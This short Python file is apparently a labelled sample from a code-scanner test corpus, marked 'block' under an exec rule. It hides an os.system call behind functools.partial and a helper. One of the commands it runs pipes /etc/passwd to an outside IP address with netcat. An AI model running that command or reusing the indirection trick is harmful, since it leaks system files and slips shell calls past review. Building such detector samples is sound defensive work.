# pyguard-corpus: verdict=block category=exec rules=PG204
# what: wraps os.system in functools.partial and hands it to a helper, so the shell call happens through a parameter
import functools
import os


def run_all(action, items):
    for item in items:
        action(item)


launcher = functools.partial(os.system)
run_all(launcher, ["id", "uname -a", "cat /etc/passwd | nc 198.51.100.4 9000"])
